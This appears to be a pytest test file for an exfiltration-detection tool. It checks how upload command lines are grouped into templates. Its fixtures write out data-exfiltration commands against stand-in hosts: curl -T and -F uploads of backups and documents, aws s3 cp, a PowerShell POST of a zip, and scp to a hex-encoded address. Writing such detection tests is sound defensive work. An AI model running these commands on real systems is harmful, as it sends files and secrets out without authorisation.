"""Commands that are one when what changes from run to run is put aside."""

import pytest

from exfilwatch.commands.fields import fields
from exfilwatch.commands.template import template

ONE = [
    ("curl -T /srv/backup-2026-11-27.zip https://h.example/", "curl -T /srv/backup-2026-11-28.zip https://h.example/"),
    ("curl -T /srv/a.docx https://h.example/", "/usr/bin/curl -T /srv/b.xlsx https://h.example/"),
    ("sh -c 'curl -T /srv/a.docx https://h.example/'", "curl -T /srv/a.docx https://h.example/"),
    ("curl -T - https://h.example/in/27-Nov-2026", "curl -T - https://h.example/in/01-Dec-2026"),
    ("curl -T - https://h.example/2026-11-27T10:00:00Z", "curl -T - https://h.example/2026-12-01T11:30:07Z"),
    ("curl -T /tmp/tmp.Xa8Kq2 https://h.example/", "curl -T /tmp/tmp.lLmNoP https://h.example/"),
    ("curl -F a=@x https://h.example/?s=deadbeef0123", "curl -F a=@x https://h.example/?s=0123deadbeef"),
    (
        "curl -F a=@x https://h.example/550e8400-e29b-41d4-a716-446655440000",
        "curl -F a=@x https://h.example/a2a3c6f0-0000-41d4-a716-0123456789ab",
    ),
    ("aws s3 cp /tmp/x.gz s3://bkt/day_331.gz", "aws s3 cp /tmp/x.gz s3://bkt/day_332.gz"),
    (
        'powershell -c "irm -Method Post -InFile C:\\Temp\\a1.zip -Uri https://x.example/up/1"',
        'powershell -c "irm -Method Post -InFile C:\\Temp\\b2.zip -Uri https://x.example/up/2"',
    ),
]
OTHER = [
    ("curl -T /srv/a https://h.example/", "curl -T /srv/a https://i.example/"),
    ("curl -T /srv/a https://203.0.113.7/", "curl -T /srv/a https://203.0.113.8/"),
    ("scp /srv/a eva@0xCB007107:/in/", "scp /srv/a eva@0xCB007108:/in/"),
    ("curl -T /srv/a https://h.example/", "curl -T /etc/a https://h.example/"),
    ("curl -T /srv/a https://h.example/reports", "curl -T /srv/a https://h.example/backups"),
    ("curl -T /srv/a https://h.example/", "curl -k -T /srv/a https://h.example/"),
]


def of(line: str) -> object:
    return fields({"CommandLine": line}.get)["command.template"]


@pytest.mark.parametrize(("first", "second"), ONE)
def test_commands_that_differ_in_what_changes_are_one(first, second):
    assert of(first) == of(second)


@pytest.mark.parametrize(("first", "second"), OTHER)
def test_commands_that_send_elsewhere_or_something_else_are_not(first, second):
    assert of(first) != of(second)


def test_a_template_is_read_as_a_command():
    assert of("curl -T /srv/b-2026-11-27.zip https://h7.example/in/4711") == "curl -T /srv/* https://h7.example/in/#"


def test_an_upload_to_a_place_that_is_not_known_has_a_template_all_the_same():
    assert of("curl -T /srv/a.zip $URL") == "curl -T /srv/* $url"


def test_what_sends_nothing_has_none():
    assert "command.template" not in fields({"CommandLine": "curl -O https://h.example/a.zip"}.get)


def test_a_long_command_has_a_short_template():
    assert len(template("curl " + "-H a " * 10_000, (), "h.example")) < 400
